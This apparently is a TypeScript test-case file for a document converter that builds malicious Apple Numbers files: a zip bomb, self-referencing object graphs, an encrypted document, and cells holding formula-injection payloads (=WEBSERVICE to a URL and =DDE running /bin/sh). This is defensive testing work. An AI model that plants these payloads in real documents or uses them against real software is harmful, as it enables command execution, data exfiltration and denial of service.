/**
 * Apple Numbers documents that unpack to a huge size, contain themselves, are encrypted, or have cells that other
 * programs would evaluate as formulas.
 */
import { numbersDocument } from '../../../samples/iwork/iwork-numbers.ts';
import { block, blocks, message, object, reference, varint } from '../../../samples/iwork/iwork-wire.ts';
import { zip, type Member } from '../../bytes/zip.ts';
import { inCategory, type FileCase } from '../../case.ts';
import { zeroes } from '../files/bombs.ts';

const targets = ['xlsx', 'csv', 'json', 'pdf'];

const name = 'Index/Document.iwa';
const documentOf = (...objects: Buffer[]): Buffer =>
  zip([{ name, data: blocks(Buffer.concat(objects)), stored: true }]);

const times = <Item>(count: number, item: Item): Item[] => Array.from({ length: count }, () => item);

const trap = { kind: 'resource', ext: 'numbers', to: targets, refused: true } as const;

const numbers: readonly FileCase[] = [
  {
    name: 'numbers-formula',
    kind: 'network',
    ext: 'numbers',
    to: targets,
    make: ({ url, text }) =>
      numbersDocument([
        {
          name: `'file://${text}'#S`,
          tables: [{ name: 'T', rows: [[`=WEBSERVICE("${url}a")`, `=DDE("/bin/sh";"-c";"id")`]] }],
        },
      ]),
  },
  {
    name: 'numbers-block',
    ...trap,
    make: () =>
      zip([{ name, data: block(Buffer.concat([varint(2 ** 32 - 1), Buffer.from([0, 65])])), stored: true }]),
  },
  {
    name: 'numbers-bomb',
    ...trap,
    long: true,
    make: async () => {
      const bomb: Member = {
        name,
        packed: { bytes: await zeroes.deflate(1100), plain: 1100 * 1024 ** 2, crc: 0 },
      };
      return zip([bomb]);
    },
  },
  {
    name: 'numbers-itself',
    ...trap,
    make: () =>
      documentOf(
        object(1, 1, message({ 1: reference(2) })),
        object(2, 2, message({ 1: 'S', 2: times(1000, reference(3)) })),
        object(3, 3008, message({ 2: [reference(3), reference(2), reference(3)] })),
      ),
  },
  {
    name: 'numbers-again',
    ...trap,
    make: () =>
      documentOf(
        object(1, 1, message({ 1: times(1_000_000, reference(2)) })),
        object(2, 2, message({ 1: 'S', 2: [] })),
      ),
  },
  {
    name: 'numbers-locked',
    ...trap,
    make: () => numbersDocument([], [{ name: '.iwpv2', data: 'salt' }]),
  },
];

export const iWorkCases = inCategory('office', numbers);
